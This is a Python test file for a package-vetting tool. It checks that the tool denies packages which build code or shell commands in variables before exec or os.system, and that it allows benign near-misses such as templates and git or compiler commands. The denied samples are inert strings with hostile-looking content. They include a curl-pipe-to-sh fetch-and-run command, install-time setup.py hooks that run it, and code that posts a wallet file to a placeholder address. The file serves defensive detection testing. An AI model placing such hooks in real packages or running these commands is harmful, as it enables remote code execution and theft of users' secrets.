"""Code and commands built in a variable before they run (ADR 0154).

ADR 0153 reads ``exec(PAYLOAD + x)`` and ``os.system(CMD + ' ' + x)`` when the sum is
written in the call. An attacker's first step after that is one line up: ``code = PAYLOAD
+ x; exec(code)``. A string that stops folding keeps the text of its known parts from a
written start, and the exec and process sinks read it wherever it went: a variable, ``+=``,
an f-string, a function's argument, ``compile``; a request reads it as its address when it
holds the whole host.

Near-misses a real package writes stay allowed: a template exec'd with a field added, a
command of a known program with a name added, a path built from a written folder (a head
is no path), a string whose start does not fold. Each sample is inert (vetting only reads
files)."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

CURL = "curl -s http://203.0.113.5/x | sh"
PAYLOAD = f"import os\nos.system({CURL!r})\n"

DENIED: dict[str, dict[str, str]] = {
    "payload-plus-unknown-in-a-variable": init(
        f"import sys\nP = {PAYLOAD!r}\ncode = P + sys.argv[0][:0]\nexec(code)\n"
    ),
    "payload-grown-by-plus-equals": init(
        f"import sys\ncode = {PAYLOAD!r}\ncode += sys.argv[0][:0]\nexec(code)\n"
    ),
    "payload-in-an-f-string-variable": init(
        f"import sys\nP = {PAYLOAD!r}\ncode = f'{{P}}{{sys.argv[0][:0]}}'\nexec(code)\n"
    ),
    "payload-compiled-from-a-variable": init(
        f"import sys\ncode = {PAYLOAD!r} + sys.argv[0][:0]\n"
        "exec(compile(code, '<string>', 'exec'))\n"
    ),
    "payload-built-inside-a-function-called-on-import": init(
        f"import sys\ndef run(x):\n    code = {PAYLOAD!r} + x\n    exec(code)\n"
        "run(sys.argv[0][:0])\n"
    ),
    "payload-built-by-a-function-and-exec-d": init(
        f"import sys\ndef build(x):\n    return {PAYLOAD!r} + x\nexec(build(sys.argv[0][:0]))\n"
    ),
    "payload-with-two-unknowns-and-a-known-tail": init(
        f"import sys\ncode = {PAYLOAD!r} + sys.argv[0][:0] + '\\n' + sys.argv[0][:0]\nexec(code)\n"
    ),
    "shell-command-plus-unknown-in-a-variable": init(
        f"import os, sys\ncmd = {CURL!r} + ' ' + sys.argv[0]\nos.system(cmd)\n"
    ),
    "shell-command-in-a-variable-with-shell-true": init(
        f"import subprocess, sys\ncmd = {CURL!r} + sys.argv[0][:0]\n"
        "subprocess.Popen(cmd, shell=True)\n"
    ),
    "shell-command-in-a-variable-grown-in-the-call": init(
        f"import os, sys\ncmd = {CURL!r} + sys.argv[0][:0]\nos.system(cmd + ' ' + sys.argv[0])\n"
    ),
    "shell-command-plus-unknown-at-install": {
        "setup.py": (
            "import os, sys\nfrom setuptools import setup\n"
            f"cmd = {CURL!r} + ' #' + sys.argv[0]\nos.system(cmd)\n"
            "setup(name='evpkg', packages=['evpkg'])\n"
        ),
        "evpkg/__init__.py": "",
    },
    "wallet-file-posted-to-a-grown-address-when-called": init(
        "import os, sys, httpx\n"
        "URL = 'http://203.0.113.5:8000/_validate' + sys.argv[0][:0]\n"
        "async def valid(mnem):\n"
        "    async with httpx.AsyncClient(timeout=30) as client:\n"
        "        with open(os.path.basename(mnem), 'rb') as f:\n"
        "            await client.post(URL, files={'files': (mnem, f, 'text/plain')})\n"
    ),
    "address-literal-grown-and-fetched-at-install": {
        "setup.py": (
            "import sys, urllib.request\nfrom setuptools import setup\n"
            "URL = 'http://203.0.113.5/ping' + sys.argv[0][:0]\nurllib.request.urlopen(URL)\n"
            "setup(name='evpkg', packages=['evpkg'])\n"
        ),
        "evpkg/__init__.py": "",
    },
    "payload-after-an-unknown-start-in-a-variable": init(
        f"import sys\ncode = sys.argv[0][:0] + {PAYLOAD!r}\nexec(code)\n"
    ),
    "payload-added-to-an-unknown-by-plus-equals": init(
        f"import sys\ncode = sys.argv[0][:0]\ncode += {PAYLOAD!r}\nexec(code)\n"
    ),
    "payload-between-unknowns-compiled": init(
        f"import sys\ncode = sys.argv[0][:0] + {PAYLOAD!r} + sys.argv[0][:0]\n"
        "exec(compile(code, '<string>', 'exec'))\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "method-template-after-an-unknown-start-exec-d": init(
        "import sys\ncode = sys.argv[0][:0] + 'def get(self):\\n    return self._v\\n'\n"
        "exec(code, globals())\n"
    ),
    "api-address-with-a-name-added-when-called": init(
        "import requests\n"
        "def repo(name):\n"
        "    return requests.get('https://api.github.com/repos/' + name).json()\n"
    ),
    "template-plus-field-exec-d-from-a-variable": init(
        "import sys\nTEMPLATE = 'def _get(self):\\n    return self._data'\n"
        "code = TEMPLATE + '[' + repr(sys.argv[0]) + ']'\nexec(code, globals())\n"
    ),
    "accessor-built-by-plus-equals-and-exec-d": init(
        "import sys\ncode = 'def accessor(self):\\n'\n"
        "code += '    return self.' + sys.argv[0]\nexec(code, globals())\n"
    ),
    "git-command-with-a-tag-added": init(
        "import subprocess, sys\ncmd = 'git describe --tags ' + sys.argv[0]\n"
        "subprocess.check_output(cmd, shell=True)\n"
    ),
    "compiler-command-in-a-variable-on-install": {
        "setup.py": (
            "import os\nfrom setuptools import setup\n"
            "cmd = 'cc -c probe.c -o probe.o ' + os.environ.get('CFLAGS', '')\nos.system(cmd)\n"
            "setup(name='evpkg', packages=['evpkg'])\n"
        ),
        "evpkg/__init__.py": "",
    },
    "cache-file-under-tmp-written-on-import": init(
        "import sys\npath = '/tmp/evpkg-' + sys.argv[0][-8:]\n"
        "with open(path, 'w') as f:\n    f.write('cache')\n"
    ),
    "unknown-start-then-a-pipe-word": init(
        "import os, sys\ncmd = sys.argv[0] + ' | sort'\nos.system(cmd)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_code_and_commands_built_in_a_variable(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
